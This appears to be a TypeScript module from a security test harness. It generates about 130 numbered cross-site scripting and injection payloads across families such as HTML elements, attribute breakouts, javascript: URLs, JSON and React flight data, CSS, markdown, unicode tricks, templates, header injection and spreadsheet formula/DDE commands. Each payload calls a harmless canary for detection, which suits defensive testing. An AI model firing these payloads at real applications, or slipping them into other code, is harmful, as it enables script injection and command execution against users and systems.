// Words that would be markup, script, style or an address that runs, wherever somebody forgot to take them as words. Each calls a canary,
// xssCalled(where it was put, which it is), and whatever it would make of itself carries data-xss: what came true says what it was.

/** The function that a payload calls. Nothing else of the desk is called so. */
export const CANARY = 'xssCalled'
/** What every element that a payload would make carries. */
export const MARK = 'data-xss'
/** Where a payload is found in what is shown: the number of its place, and its own. */
export const SEEN = /xssCalled\((\d+),(\d+)\)/g

export const FAMILIES = {
  element: 20,
  attribute: 20,
  url: 20,
  json: 15,
  css: 10,
  markdown: 10,
  unicode: 10,
  template: 10,
  'file name': 5,
  formula: 10,
} as const
export type Family = keyof typeof FAMILIES

export interface Payload {
  number: number
  family: Family
  /** The words for the place of that number. */
  at: (place: number) => string
}

/** `c` calls the canary, `m` is the mark as an attribute, `img` an element that calls it as soon as it is there. */
type Written = (c: string, m: string, img: string) => string

const encoded = (text: string) => Buffer.from(text).toString('base64')

const WRITTEN: Record<Family, readonly Written[]> = {
  element: [
    (c, m) => `<script ${m}>${c}</script>`,
    (_, __, img) => img,
    (c, m) => `<svg ${m} onload=${c}>`,
    (c, m) => `<svg ${m}><script>${c}</script></svg>`,
    (c, m) => `<iframe ${m} srcdoc="<script>${c}</script>"></iframe>`,
    (c, m) => `<iframe ${m} src="javascript:${c}"></iframe>`,
    (c, m) => `<object ${m} data="data:text/html,<script>${c}</script>"></object>`,
    (c, m) => `<embed ${m} src="javascript:${c}">`,
    (c, m) => `<details ${m} open ontoggle=${c}>x</details>`,
    (c, m) => `<body ${m} onload=${c}>`,
    (c, m) => `<video ${m}><source onerror=${c}></video>`,
    (c, m) => `<audio ${m} src=x onerror=${c}></audio>`,
    (c, m) => `<input ${m} autofocus onfocus=${c}>`,
    (c, m) => `<a ${m} href=javascript:${c}>press</a>`,
    (c, m) => `<form ${m} action=javascript:${c}><button>send</button></form>`,
    (c, m) => `<math ${m}><mtext><a xlink:href=javascript:${c} href=javascript:${c}>x</a></mtext></math>`,
    (c, m) => `<marquee ${m} onstart=${c}>x</marquee>`,
    (c, m) => `<base ${m} href="javascript:${c}//">`,
    (c, m) => `<meta ${m} http-equiv=refresh content="0;url=javascript:${c}">`,
    (c, m) => `<select ${m} autofocus onfocus=${c}><option>x</select>`,
  ],
  attribute: [
    (c, m) => `" autofocus onfocus=${c} ${m} x="`,
    (c, m) => `' autofocus onfocus=${c} ${m} x='`,
    (c, m) => `\` autofocus onfocus=${c} ${m} x=\``,
    (_, __, img) => `">${img}`,
    (_, __, img) => `'>${img}`,
    (_, __, img) => `-->${img}`,
    (_, __, img) => `]]>${img}`,
    (_, __, img) => `</title>${img}`,
    (_, __, img) => `</textarea>${img}`,
    (_, __, img) => `</option></select>${img}`,
    (_, __, img) => `</style>${img}`,
    (c, m) => `</script><script ${m}>${c}</script>`,
    (_, __, img) => `</noscript>${img}`,
    (_, __, img) => `</a></template>${img}`,
    (c, m) => `" onmouseover=${c} ${m} x="`,
    (c, m) => `" style="animation-name:x" onanimationstart="${c}" ${m} x="`,
    (c, m) => `x onerror=${c} ${m}`,
    (c, m) => `x/onload=${c}/${m}`,
    (c) => `&quot;&gt;&lt;img src=x onerror=${c}&gt;`,
    (_, __, img) => `\\">${img}`,
  ],
  url: [
    (c) => `javascript:${c}`,
    (c) => `JaVaScRiPt:${c}`,
    (c) => ` javascript:${c}`,
    (c) => `java\tscript:${c}`,
    (c) => `java\nscript:${c}`,
    (c) => `\u0001javascript:${c}`,
    (c) => `javascript&colon;${c}`,
    (c) => `&#106;avascript:${c}`,
    (c) => `javascript://x.example/%0a${c}`,
    (c) => `javascript:"x.example/";${c}`,
    (c, m) => `data:text/html,<script ${m}>${c}</script>`,
    (c, m) => `data:text/html;base64,${encoded(`<script ${m}>${c}</script>`)}#${c}`,
    (c) => `vbscript:${c}`,
    (c) => `view-source:javascript:${c}`,
    (c) => `blob:javascript:${c}`,
    (c, m) => `//x.example/<script ${m}>${c}</script>`,
    (_, __, img) => `https://x.example/">${img}`,
    (c) => `https://x.example/?a=';${c};'`,
    (c) => `https://javascript:${c}@x.example/`,
    (c) => `https://x.example/#javascript:${c}`,
  ],
  json: [
    (c) => `"});${c};({"x":"`,
    (c, m) => `"}]</script><script ${m}>${c}</script>`,
    (c, m) => `\\u003cscript ${m}\\u003e${c}\\u003c/script\\u003e`,
    (c, m) => `</script><script ${m}>self.__next_f.push([1,"x"]);${c}</script>`,
    (c) => `"])</script ${c}//`,
    (c, m) => `["$","script",null,{"children":"${c}","${m}":1}]`,
    (c) => `["$","img",null,{"src":"x","onError":"${c}"}]`,
    (_, __, img) => `{"$$typeof":"react.element","type":"b","props":{"dangerouslySetInnerHTML":{"__html":"${img}"}}}`,
    (c) => `$Sreact.suspense ${c}`,
    (c) => `$1:props:${c}`,
    (c) => `x\u2028${c}\u2029`,
    (c) => `<!--<script>${c}`,
    (c) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"${c}"}}}`,
    (c) => `");${c}//`,
    (c) => `';${c}//\\`,
  ],
  css: [
    (c, m) => `<style ${m}>*{background:url(javascript:${c})}</style>`,
    (c, m) => `</style><style ${m}>@import 'javascript:${c}'</style>`,
    (c) => `x;background:url(javascript:${c})`,
    (c) => `x:expression(${c})`,
    (c, m) => `<link ${m} rel=stylesheet href="data:text/css,*{}#${c}">`,
    (c, m) => `<svg ${m}><style>*{x:url(javascript:${c})}</style></svg>`,
    (_, __, img) => `--x:}</style>${img}`,
    (c, m) => `<p ${m} style="animation:x 1s" onanimationend=${c}>x</p>`,
    (c) => `red;}body{background:url("javascript:${c}")`,
    (c, m) => `" style="background:url(javascript:${c})" ${m} x="`,
  ],
  markdown: [
    (c) => `[press](javascript:${c})`,
    (c, m) => `![x](x"onerror="${c}" ${m} x=")`,
    (c) => `<javascript:${c}>`,
    (c) => `[press]: javascript:${c}`,
    (_, __, img) => `\`${img}\``,
    (_, __, img) => `\`\`\`html\n${img}\n\`\`\``,
    (_, __, img) => `> ${img}`,
    (c, m) => `# <script ${m}>${c}</script>`,
    (_, __, img) => `| ${img} | x |`,
    (c) => `**[press](<javascript:${c}>)**`,
  ],
  unicode: [
    (c, m) => `＜script ${m}＞${c}＜/script＞`,
    (_, __, img) => `\u202e${img}\u202c`,
    (_, __, img) => `\u200b${img}`,
    (c, m) => `<\u0000img ${m} src=x onerror=${c}>`,
    (c, m) => `<ſcript ${m}>${c}</ſcript>`,
    (c, m) => `<ımg ${m} src=x onerror=${c}>`,
    (c, m) => `<img\u00a0${m}\u2003src=x onerror=${c}>`,
    (c, m) => `%3Cscript ${m}%3E${c}%3C/script%3E %C0%BC`,
    (c, m) => `+ADw-script ${m}+AD4-${c}+ADw-/script+AD4-`,
    (_, __, img) => `\ufeff\u2028${img}`,
  ],
  template: [
    (c) => `{{${c}}}`,
    (c) => `\${${c}}`,
    (c) => `<%= ${c} %>`,
    (c) => `#{${c}}`,
    (c) => `{{constructor.constructor("${c}")()}}`,
    (_, __, img) => `{n, plural, other {${img}}}`,
    (c) => `'{' ${c} '}' {name}`,
    (c) => `[[${c}]]`,
    (c) => `<!--#exec cmd="${c}"-->`,
    (c) => `{% ${c} %}<?= ${c} ?>`,
  ],
  'file name': [
    (c, m) => `a"\r\nContent-Type: text/html\r\n\r\n<script ${m}>${c}</script>`,
    (_, __, img) => `a"; filename="${img}.html`,
    (_, __, img) => `../../${img}.svg`,
    (c) => `a.html\r\nSet-Cookie: xss=${c}`,
    (_, __, img) => `${img}%0d%0aX-Xss: 1`,
  ],
  formula: [
    (c) => `=HYPERLINK("javascript:${c}","press")`,
    (c) => `+cmd|'/C ${c}'!A0`,
    (c) => `-2+3+cmd|'/C ${c}'!A0`,
    (c) => `@SUM(1)*${c}`,
    (c) => `\t=${c}`,
    (c) => `\r=${c}`,
    (c) => `＝${c}`,
    (c) => `\u200b=${c}`,
    (c) => `"=${c}`,
    (c) => `;=${c}`,
  ],
}

/** All of them, numbered from 1. */
export const PAYLOADS: readonly Payload[] = (Object.keys(FAMILIES) as Family[])
  .flatMap((family) => WRITTEN[family].map((written) => ({ family, written })))
  .map(({ family, written }, i) => {
    const number = i + 1
    return {
      number,
      family,
      at: (place) => {
        const call = `${CANARY}(${place},${number})`
        const mark = `${MARK}=${number}`
        return written(call, mark, `<img ${mark} src=x onerror=${call}>`)
      },
    }
  })

/** So many in one field each: fewer requests for the same words. What begins an address or a formula stands first. */
export function together(payloads: readonly Payload[], size: number): Payload[] {
  const isFirst = ({ family }: Payload) => family === 'url' || family === 'formula'
  const sorted = [...payloads.filter(isFirst), ...payloads.filter((one) => !isFirst(one))]
  const groups = Math.ceil(sorted.length / size)
  return Array.from({ length: groups }, (_, group) => {
    const some = sorted.filter((__, i) => i % groups === group)
    return { ...some[0]!, at: (place) => some.map((one) => one.at(place)).join(' ') }
  })
}
